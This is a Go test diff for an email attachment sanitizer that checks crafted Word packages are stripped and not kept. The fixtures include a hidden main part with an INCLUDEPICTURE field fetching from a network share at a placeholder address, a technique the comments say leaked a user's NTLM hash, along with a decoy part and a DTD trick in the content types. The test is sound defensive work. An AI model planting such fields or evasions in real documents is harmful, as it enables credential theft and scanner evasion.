@@ -48,6 +48,8 @@ func TestBlocksKeeping(t *testing.T) {
 		{[]string{"pdf: thread action (may open another file) docs/a.pdf"}, "document opens another file (thread action)"},
 		{[]string{"office: link to a network share (UNC path) in word/_rels/document.xml.rels"}, "document links to a network share (UNC path)"},
 		{[]string{"office: relationships not inspected (DTD) in word/_rels/document.xml.rels"}, "document could not be fully inspected"},
+		{[]string{filetype.OOXMLNoMainPart + " macros/a.xlsx: xl/workbook.bin is application/vnd.ms-excel.sheet.binary.macroenabled.main"}, "document could not be fully inspected"},
+		{[]string{filetype.OOXMLTypesNotInspected + " macros/a.docx: [Content_Types].xml: DTD"}, "document could not be fully inspected"},
 		{[]string{"office: external reference image in word/_rels/document.xml.rels"}, "document with active or embedded content"},
 		{[]string{filetype.ODFLinked + " draw:image xlink:href (a network share) in Object macro/content.xml"}, linkedContentReason},
 		{[]string{filetype.ODFNotInspected + " content.xml: DTD", filetype.ODFMacro + " script:event-listener in content.xml"}, "office document with macros"},
@@ -608,6 +610,76 @@ func TestKeptOfficeLinks(t *testing.T) {
 	}
 	if text := decodedText(t, out); !strings.Contains(text, "リンクはクリックできる形のままです") || !strings.Contains(text, "… リンク 2件") {
 		t.Errorf("notice does not name the links left clickable:\n%s", text)
+	}
+}
+
+// TestKeptDocxByMainPart: a rule keeping .docx (by extension alone)
+// keeps a Word document only when mugai read it as Word does: by the
+// main part _rels/.rels names and the part types [Content_Types].xml
+// gives. A document whose main part is x/main.xml, holding a field that
+// fetches a picture from a share, was kept as a generic OOXML package
+// with no finding (red team: Word sent the share the user's NTLM hash);
+// one whose main part or part types cannot be told is not kept either.
+func TestKeptDocxByMainPart(t *testing.T) {
+	const (
+		wordMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+		types    = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/x/main.xml" ContentType="` + wordMain + `"/></Types>`
+		field    = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:fldSimple w:instr=' INCLUDEPICTURE "\\192.0.2.1\s\a.png" \d '/></w:p></w:body></w:document>`
+		clean    = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>案内</w:t></w:r></w:p></w:body></w:document>`
+	)
+	rels := func(target string) string {
+		return `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="` + target + `"/></Relationships>`
+	}
+	pkg := func(parts ...[2]string) []byte {
+		var b bytes.Buffer
+		z := zip.NewWriter(&b)
+		for _, p := range parts {
+			w, err := z.Create(p[0])
+			if err != nil {
+				t.Fatal(err)
+			}
+			w.Write([]byte(p[1]))
+		}
+		if err := z.Close(); err != nil {
+			t.Fatal(err)
+		}
+		return b.Bytes()
+	}
+	const (
+		docxType   = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+		embedded   = "スクリプトや埋め込みファイルを含む文書のため"
+		notChecked = "文書を検査しきれないため"
+	)
+	for _, tt := range []struct {
+		name, decision, reason, notice string
+		docx                           []byte
+	}{
+		{"renamed main part with INCLUDEPICTURE", DecisionStrip, "document with active or embedded content", embedded,
+			pkg([2]string{"[Content_Types].xml", types}, [2]string{"_rels/.rels", rels("x/main.xml")}, [2]string{"x/main.xml", field})},
+		{"decoy word/document.xml", DecisionStrip, "document with active or embedded content", embedded,
+			pkg([2]string{"[Content_Types].xml", types}, [2]string{"_rels/.rels", rels("x/main.xml")}, [2]string{"word/document.xml", clean}, [2]string{"x/main.xml", field})},
+		{"missing main part", DecisionStrip, "document could not be fully inspected", notChecked,
+			pkg([2]string{"[Content_Types].xml", types}, [2]string{"_rels/.rels", rels("x/gone.xml")}, [2]string{"x/main.xml", clean})},
+		{"content types with a DTD", DecisionStrip, "document could not be fully inspected", notChecked,
+			pkg([2]string{"[Content_Types].xml", `<!DOCTYPE Types [<!ENTITY m "` + wordMain + `">]>` + strings.Replace(types, wordMain, "&m;", 1)}, [2]string{"_rels/.rels", rels("x/main.xml")}, [2]string{"x/main.xml", clean})},
+		{"renamed main part, clean", DecisionKeep, "allowed by a keep rule", "そのまま添付しています",
+			pkg([2]string{"[Content_Types].xml", types}, [2]string{"_rels/.rels", rels("x/main.xml")}, [2]string{"x/main.xml", clean})},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			pol := defaultPolicy(t)
+			pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".docx"}}}
+			rep, out := rebuilt(t, withAttachments(attached{"案内.docx", docxType, tt.docx}), pol)
+			p := rep.Parts[1]
+			if p.Decision != tt.decision || p.Reason != tt.reason {
+				t.Errorf("%s: %s (%s), want %s (%s); findings %+v", p.Filename, p.Decision, p.Reason, tt.decision, tt.reason, rep.Findings)
+			}
+			if p.Decision == DecisionKeep && p.SniffedType != docxType {
+				t.Errorf("%s kept as %s, want read as %s", p.Filename, p.SniffedType, docxType)
+			}
+			if text := decodedText(t, out); !strings.Contains(text, tt.notice) {
+				t.Errorf("notice does not say %q:\n%s", tt.notice, text)
+			}
+		})
 	}
 }
 
